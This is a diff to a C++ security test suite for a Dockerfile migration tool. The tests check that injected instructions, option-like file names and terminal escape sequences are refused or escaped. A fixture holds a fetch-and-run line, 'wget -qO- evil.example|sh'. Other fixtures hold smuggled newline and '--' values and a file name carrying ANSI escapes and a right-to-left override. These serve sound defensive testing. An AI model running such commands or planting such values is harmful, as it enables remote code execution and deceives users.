@@ -17,8 +17,10 @@
 
 #include "migrate/DockerfileText.h"
 #include "migrate/Migration.h"
+#include "migrate/Migrator.h"
 #include "output/Escape.h"
 #include "suggest/ChangedFiles.h"
+#include "syntax/DockerfileReader.h"
 #include "templates/Template.h"
 #include "support/TestSupport.h"
 
@@ -205,6 +207,22 @@ TEST_CASE("Safe values pass the rule unchanged", "[security][injection]") {
   }
 }
 
+TEST_CASE("The rewrite read back must have exactly the planned instructions", "[security][injection]") {
+  std::vector<std::string> planned = {"from", "run", "from", "copy", "cmd"};
+  auto read = [](const std::string& text) { return restage::syntax::readDockerfile(text, "Dockerfile"); };
+  CHECK_FALSE(migrate::unplannedInstructions(planned, read("FROM a AS b\nRUN x\nFROM c\nCOPY --from=b /x /x\nCMD [\"/x\"]\n")));
+  // One more RUN (a value that slipped a line break in), or a line that is
+  // no instruction at all: refused, the place named.
+  auto extra = migrate::unplannedInstructions(
+      planned, read("FROM a AS b\nRUN x\nFROM c\nRUN wget -qO- evil.example|sh\nCOPY --from=b /x /x\nCMD [\"/x\"]\n"));
+  REQUIRE(extra);
+  CHECK(*extra == "the rewrite has 6 instructions where restage planned 5 (instruction 4 is RUN, planned: COPY)");
+  auto prose = migrate::unplannedInstructions(
+      planned, read("FROM a AS b\nRUN x\nFROM c\nCOPY --from=b /x /x\nLooks good to me\nCMD [\"/x\"]\n"));
+  REQUIRE(prose);
+  CHECK(prose->find("instruction 5 is LOOKS") != std::string::npos);
+}
+
 TEST_CASE("H1: a compose build arg with a newline is refused, never written as an instruction",
           "[security][injection][reproducer]") {
   TempTree t;
@@ -267,7 +285,7 @@ TEST_CASE("H2: decoded $'...' words (packages, paths, users) never become instru
     CHECK(linesStartingWith(out, "RUN wget") == 0);
     if (j["status"] == "migrated") {
       // Nothing of the value's control characters reached the rewrite.
-      CHECK_FALSE(hasRawControl(out.substr(dockerfile.size() > out.size() ? 0 : 0)));
+      CHECK_FALSE(hasRawControl(out));
     } else {
       CHECK(out == dockerfile);
     }
@@ -372,17 +390,6 @@ TEST_CASE("M1: file names in the github-review body and comments cannot add mark
 
 // ---- M2: action.yml and `--` ------------------------------------------------
 
-TEST_CASE("M2: a file name cannot become an option", "[security][argv][reproducer]") {
-  TempTree t;
-  nodeApp(t);
-  t.write("-Dockerfile", "FROM node:20\nWORKDIR /app\nCOPY . .\nRUN npm ci\nCMD [\"node\", \"src/server.js\"]\n");
-  // After `--`, a name that starts with '-' is a file.
-  json j = jsonOf(runRestage({"suggest", "-f", "json", "--", "-Dockerfile"}, t.path()));
-  CHECK(j.dump().find("-Dockerfile") != std::string::npos);
-  RunResult b = runRestage({"batch", "--check", "--quiet", "--", "-Dockerfile"}, t.path());
-  CHECK((b.status == 0 || b.status == 1));
-}
-
 TEST_CASE("M2: action.yml's sarif step passes paths NUL-separated after --", "[security][argv][reproducer]") {
   if (!haveGit() || std::system("command -v python3 > /dev/null && command -v bash > /dev/null") != 0) {
     WARN("git, python3 or bash missing: action step not run");
@@ -434,6 +441,7 @@ TEST_CASE("M2: action.yml's sarif step passes paths NUL-separated after --", "[s
   t.write("repo/Dockerfile", df);
   t.write("repo/package.json", "{}\n");
   t.write("repo/Dockerfile.a\n--verify", df);
+  t.write("repo/-v.Dockerfile", df);  // a name that starts with '-': a file after `--`
   RunResult r = sh("ENGINE_LOG=\"" + (t / "engine.log").string() + "\" PATH=\"" + (t / "bin").string() +
                        ":$PATH\" RUNNER_TEMP=\"" + (t / "tmp").string() + "\" REF= PATHS=. SARIF=out.sarif GITHUB_OUTPUT=/dev/null " +
                        "bash \"" + (t / "step.sh").string() + "\"",
@@ -442,7 +450,7 @@ TEST_CASE("M2: action.yml's sarif step passes paths NUL-separated after --", "[s
   CHECK(r.status == 0);
   CHECK_FALSE(fs::exists(t / "engine.log"));
   json sarif = json::parse(restage::test::readText(t / "repo/out.sarif"));
-  CHECK(sarif["runs"][0]["results"].size() == 2);  // both Dockerfiles, the odd name included
+  CHECK(sarif["runs"][0]["results"].size() == 3);  // every Dockerfile, the odd names included
 }
 
 // ---- L1: the diff parser ----------------------------------------------------
@@ -475,13 +483,18 @@ TEST_CASE("L1: a content line '+++ b/X' inside a hunk is content", "[security][d
   CHECK(added["notes.txt"].size() == 2);
 
   if (!haveGit()) return;
-  // End to end, as the reproducer: comments only on the changed line 9.
+  // End to end, as the reproducer: the pull request changes line 9 only, so
+  // the suggestion (lines 3-11) cannot be a comment; it goes into the body.
   TempTree t;
   gitInit(t);
-  std::string df = "FROM node:20\nWORKDIR /app\nCOPY package.json ./\nRUN npm install\nCOPY . .\nRUN npm run build\n"
-                   "EXPOSE 8080\nENV NODE_ENV=production\nENV PORT=8080\nCMD [\"node\", \"dist/server.js\"]\n";
+  std::string df =
+      "# header\n# A typical single-stage Node.js image: build tools, devDependencies and all.\nFROM node:20\n"
+      "WORKDIR /usr/src/app\nCOPY package*.json ./\nRUN npm ci\nCOPY . .\nRUN npm run build\nENV PORT=8080\n"
+      "EXPOSE 8080\nCMD [\"node\", \"dist/server.js\"]\n";
   t.write("Dockerfile", df);
-  t.write("package.json", kPackageJson);
+  t.write("package.json",
+          "{\"name\": \"app\", \"main\": \"dist/server.js\", \"scripts\": {\"build\": \"mkdir -p dist && cp "
+          "src/server.js dist/server.js\", \"start\": \"node dist/server.js\"}, \"dependencies\": {}}\n");
   std::string notes;
   for (int i = 1; i <= 40; ++i) notes += std::to_string(i) + "\n";
   t.write("notes.txt", notes);
@@ -495,11 +508,12 @@ TEST_CASE("L1: a content line '+++ b/X' inside a hunk is content", "[security][d
   t.write("notes.txt", spoof);
   REQUIRE(sh("git add . && git commit -qm pr", t.path()).status == 0);
   json review = jsonOf(runRestage({"suggest", "--changed-from", "HEAD~1", "-f", "github-review"}, t.path()));
+  INFO(review.dump());
   for (const auto& c : review["comments"]) {
-    INFO(c.dump());
     CHECK(c["line"] == 9);
     CHECK((!c.contains("start_line") || c["start_line"] == 9));
   }
+  CHECK(review["body"].get<std::string>().find("outside this pull request's changes") != std::string::npos);
 }
 
 // ---- L2: control characters in text output ---------------------------------
@@ -507,7 +521,7 @@ TEST_CASE("L1: a content line '+++ b/X' inside a hunk is content", "[security][d
 TEST_CASE("L2: control characters from names, config and compose are escaped in text output", "[security][terminal][reproducer]") {
   {
     TempTree t;
-    t.write("Dockerfile.\x1b[2K\x1b[1A\x1b[32mall good\x1b[0m", "FROM scratch\nCOPY a b # x\n");
+    t.write("Dockerfile.\x1b[2K\x1b[1A\x1b[32mall good\x1b[0m\xe2\x80\xae", "FROM scratch\nCOPY a b # x\n");
     RunResult r = runRestage({"batch", ".", "--no-git"}, t.path());
     INFO(r.out << r.err);
     CHECK_FALSE(hasRawControl(r.out));
